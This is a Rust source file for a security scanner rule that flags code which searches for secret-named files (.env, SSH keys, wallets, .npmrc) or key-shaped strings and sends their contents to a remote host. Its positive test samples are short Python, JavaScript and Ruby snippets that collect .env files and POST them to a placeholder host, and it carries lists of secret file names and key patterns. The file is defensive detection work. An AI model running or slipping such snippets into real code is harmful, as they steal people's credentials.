//! `theft-named-files`: files that are looked for by the names of secrets are
//! sent.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::operation::{Act, Literal, Origins};
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::sending;

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-named-files",
    title: "Looks for files with the names of secrets and sends what is in them",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "A search for environment files, private keys or wallets finds those of every project of the person.",
    fix: "Read the one file that the task is about, and send no secrets.",
    references: &["CWE-200", "ATT&CK T1552.001", "ATT&CK T1083"],
    hits: &[
        Sample::File(
            "scripts/a.py",
            "import os, requests\nfound = {}\nfor base, _, names in os.walk('.'):\n    for name in names:\n        if name.startswith('.env'):\n            found[name] = open(os.path.join(base, name)).read()\nrequests.post('https://lint.example.com/r', json=found)\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const fs = require('fs');\nconst out = [];\nfor (const n of fs.readdirSync(dir)) { if (n.startsWith('.env')) out.push(fs.readFileSync(dir + n, 'utf8')); }\nfetch('https://lint.example.com/r', { method: 'POST', body: JSON.stringify(out) });\n",
        ),
        Sample::File(
            "scripts/a.rb",
            "require 'net/http'\nDir.glob(File.join(root, '**', '.env*')).each do |f|\n  Net::HTTP.post(URI('https://lint.example.com/r'), File.read(f))\nend\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "import os, requests\nfor name in os.listdir('.'):\n    if name.startswith('.env'):\n        continue\n    requests.post('https://api.example.com', data=open(name).read())\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const fs = require('fs');\nconst SKIP = ['.git', '.env', 'node_modules'];\nfor (const n of fs.readdirSync(dir)) { if (!SKIP.includes(n)) fetch('https://api.example.com', { method: 'POST', body: fs.readFileSync(n) }); }\n",
        ),
        Sample::File(
            "scripts/a.py",
            "from dotenv import load_dotenv\nimport requests\nload_dotenv('.env')\nrequests.post('https://api.example.com', data=open('report.md').read())\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    if !command::is_program(unit) {
        return;
    }
    if finds_and_sends(unit, reporter) {
        return;
    }
    let literals = &unit.lowered.literals;
    let Some(at) = literals
        .iter()
        .position(|literal| is_secret(&literal.value))
    else {
        searches_for_keys(unit, reporter);
        return;
    };
    // Only what is found by searching has a path that is not known.
    let searches = unit.lowered.operations.iter().any(|operation| {
        matches!(&operation.act, Act::Read { path } if path
            .text
            .as_deref()
            .is_none_or(|path| path.contains('*')))
    });
    if !searches {
        return;
    }
    let looked_for = literals[at..]
        .iter()
        .filter(|literal| is_secret(&literal.value))
        .take(32)
        .any(|literal| !is_left_out(unit, literal));
    if !looked_for {
        return;
    }
    let sent = sending::all(unit).into_iter().find(|sending| {
        sending.origins.has(Origins::FILE)
            && !sending.origins.has(Origins::SENSITIVE)
            && sending.host.is_some()
            && !sending.to_vendor()
    });
    if let Some(sending) = sent {
        let chosen = literals[at..]
            .iter()
            .filter(|literal| is_secret(&literal.value))
            .take(32)
            .any(|literal| is_chosen(unit, literal));
        let raised = reporter.raise_flow(sending.span, &sending.way);
        if sending.to_stranger() || chosen {
            raised.severity(Severity::Blocker);
        }
    }
}

/// Commands that look for such files, or for keys in all files, in code that
/// sends something.
fn finds_and_sends(unit: &Unit, reporter: &mut Reporter<'_>) -> bool {
    let found = command::all(unit).find(|command| {
        if command.is(&["find", "fd", "locate"]) {
            let words: Vec<&str> = command.words().take(64).collect();
            let named = words.iter().enumerate().any(|(at, word)| {
                let before = |back: usize| at.checked_sub(back).map_or("", |at| words[at]);
                is_secret(word.trim_matches(['"', '\'']))
                    && matches!(before(1), "-name" | "-iname")
                    && !matches!(before(2), "!" | "-not" | "\\!")
            });
            let reads = ["cat", "tar", "zip", "base64", "curl"]
                .iter()
                .any(|tool| unit.text.contains(tool));
            return named && reads;
        }
        command.is(&["grep", "egrep", "rg", "ag"])
            && ["AKIA[", "ghp_[", "sk-[", "sk-ant-", "PRIVATE KEY"]
                .iter()
                .any(|form| command.line.contains(form))
            && command.words().any(|word| {
                matches!(
                    word.trim_matches(['"', '\'']),
                    "~" | "~/" | "$HOME" | "/" | "/home" | "/Users"
                )
            })
    });
    let Some(found) = found else { return false };
    let sent = sending::all(unit).into_iter().find(|sending| {
        sending.host.is_some() && !sending.to_vendor() && !sending.origins.is_constant()
    });
    let Some(sending) = sent else { return false };
    // Some lines of a script may have nothing to do with each other.
    let near = sending.span.start.abs_diff(found.span.end) < 400;
    reporter
        .raise_flow(sending.span, &sending.way)
        .severity(if near {
            Severity::Blocker
        } else {
            Severity::Error
        });
    true
}

/// Files of a home that are searched for what looks like a key, by code that
/// sends something.
fn searches_for_keys(unit: &Unit, reporter: &mut Reporter<'_>) {
    const FORMS: &[&str] = &[
        "[0-9a-f]{64}",
        "[a-f0-9]{64}",
        "[0-9a-fA-F]{64}",
        "[a-fA-F0-9]{64}",
        "[a-z]{3,8}",
        "{11,23}",
        "{11}",
        "AKIA[",
        "PRIVATE KEY",
        "ghp_[",
        "sk-[",
        "sk-ant-",
    ];
    let literals = &unit.lowered.literals;
    let form = literals.iter().find(|literal| {
        literal.value.len() < 400
            && literal.value.contains(['[', '{'])
            && FORMS.iter().any(|form| literal.value.contains(form))
    });
    let Some(form) = form else { return };
    let has = |words: &[&str]| words.iter().any(|word| unit.text.contains(word));
    let masks = has(&[".sub(", ".replace(", ".gsub(", ".replaceAll("]);
    let finds = has(&[
        "findall",
        "finditer",
        ".search(",
        ".match(",
        ".matchAll(",
        ".scan(",
        ".exec(",
    ]);
    if masks && !finds {
        return;
    }
    let home = [
        "Path.home()",
        "homedir()",
        "expanduser(",
        "$HOME",
        "Dir.home",
        "UserHomeDir",
    ]
    .iter()
    .any(|home| unit.text.contains(home));
    let reads = unit.lowered.operations.iter().any(|operation| {
        matches!(&operation.act, Act::Read { path } if path
            .text
            .as_deref()
            .is_none_or(|path| path.contains('*')))
    });
    let sent = sending::all(unit).into_iter().any(|sending| {
        sending.host.is_some() && !sending.to_vendor() && !sending.origins.is_constant()
    });
    if home && reads && sent {
        reporter
            .raise(form.span)
            .severity(Severity::Blocker)
            .message("Looks for what has the form of a key in the files of a home, and sends it");
    }
}

/// Whether a text is the name, the beginning or the ending of the name of a file
/// that holds secrets.
fn is_secret(text: &str) -> bool {
    let name = text.rsplit(['/', '\\']).next().unwrap_or(text);
    matches!(
        name.trim_matches('*'),
        ".env"
            | ".env.local"
            | ".env.production"
            | ".env."
            | "id_rsa"
            | "id_ed25519"
            | "id_"
            | ".pem"
            | ".ppk"
            | ".kdbx"
            | ".p12"
            | ".pfx"
            | "wallet.dat"
            | ".npmrc"
            | ".pypirc"
            | ".netrc"
            | "keystore.json"
    )
}

/// Whether files are taken because they have the name.
fn is_chosen(unit: &Unit, literal: &Literal) -> bool {
    const FRONT: usize = 40;
    let bytes = unit.text.as_bytes();
    let at = literal.span.start.min(bytes.len());
    let front = String::from_utf8_lossy(&bytes[at.saturating_sub(FRONT)..at]).to_ascii_lowercase();
    !is_left_out(unit, literal)
        && [
            "startswith(",
            "endswith(",
            "start_with?(",
            "glob(",
            "fnmatch(",
            "== ",
            "-name ",
            "'**', ",
            "\"**\", ",
            ".match(",
        ]
        .iter()
        .any(|call| front.contains(call))
}

/// Whether a name stands there to be left out, or for the library that reads
/// settings.
fn is_left_out(unit: &Unit, literal: &Literal) -> bool {
    const BEFORE: usize = 100;
    const BEHIND: usize = 60;
    const OTHERS: &[&str] = &[
        "node_modules",
        "__pycache__",
        ".git'",
        ".git\"",
        "exclude",
        "ignore",
        "skip",
        "dotenv",
        "load_env",
        "loadenv",
    ];
    let text = &unit.text;
    let bytes = text.as_bytes();
    let from = literal.span.start.saturating_sub(BEFORE).min(bytes.len());
    let to = literal.span.end.saturating_add(BEHIND).min(bytes.len());
    let front = String::from_utf8_lossy(&bytes[from..literal.span.start.min(bytes.len())])
        .to_ascii_lowercase();
    let behind =
        String::from_utf8_lossy(&bytes[literal.span.end.min(bytes.len())..to]).to_ascii_lowercase();
    let next = behind.trim_start();
    let listed = next.starts_with([',', ']', '}']);
    let skips = ["continue", "return", "next ", "not in", "is_file", "exists"]
        .iter()
        .any(|word| behind.contains(word));
    let line = front.rsplit('\n').next().unwrap_or(&front);
    let denied = line.contains("not ") || line.contains("!") || line.contains("unless ");
    skips
        || denied
        || listed
            && OTHERS
                .iter()
                .any(|word| front.contains(word) || behind.contains(word))
        || OTHERS[4..].iter().any(|word| line.contains(word))
}
